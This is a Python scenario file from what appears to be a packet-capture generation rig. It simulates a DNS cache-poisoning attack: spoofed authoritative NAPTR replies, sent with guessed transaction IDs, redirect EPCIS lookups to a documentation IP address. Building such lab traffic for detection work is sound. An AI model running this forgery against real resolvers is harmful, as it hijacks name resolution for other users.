"""Somebody on the internet sends the resolver forged answers in the name of the level above, guessing identifiers."""

from __future__ import annotations

import asyncio

from dnslib import NAPTR, QTYPE, RR, DNSHeader, DNSQuestion, DNSRecord

from pcaps.scenarios.rig.forgery import ForgedDatagrams
from pcaps.scenarios.rig.nameserver import RESOLVER, UPPER, gtin_name
from pcaps.scenarios.rig.questioner import make_scenario
from pcaps.scenarios.rig.stage import Stage

_RULE = b"!^.*$!http://203.0.113.80/epcis!"


async def attack(stage: Stage) -> None:
    """Send 500 answers to questions that were never asked."""
    await stage.until(30)
    stage.mark()
    with ForgedDatagrams() as forged:
        for ordinal in range(500):
            name = gtin_name(100 + ordinal % 60)
            header = DNSHeader(id=stage.random.randrange(65536), qr=1, aa=1)
            reply = DNSRecord(header, q=DNSQuestion(name, QTYPE.NAPTR))
            reply.add_answer(RR(name, QTYPE.NAPTR, ttl=604800, rdata=NAPTR(0, 0, b"u", b"EPC+epcis", _RULE, ".")))
            forged.send(reply.pack(), (UPPER, 53), (RESOLVER, 40000 + ordinal % 8))
            await asyncio.sleep(0.006)


SCENARIO = make_scenario(
    "dns_forged_replies.pcap.gz", 64, 75, {"internet": attack}, time_scale=4, strangers=("internet",)
)
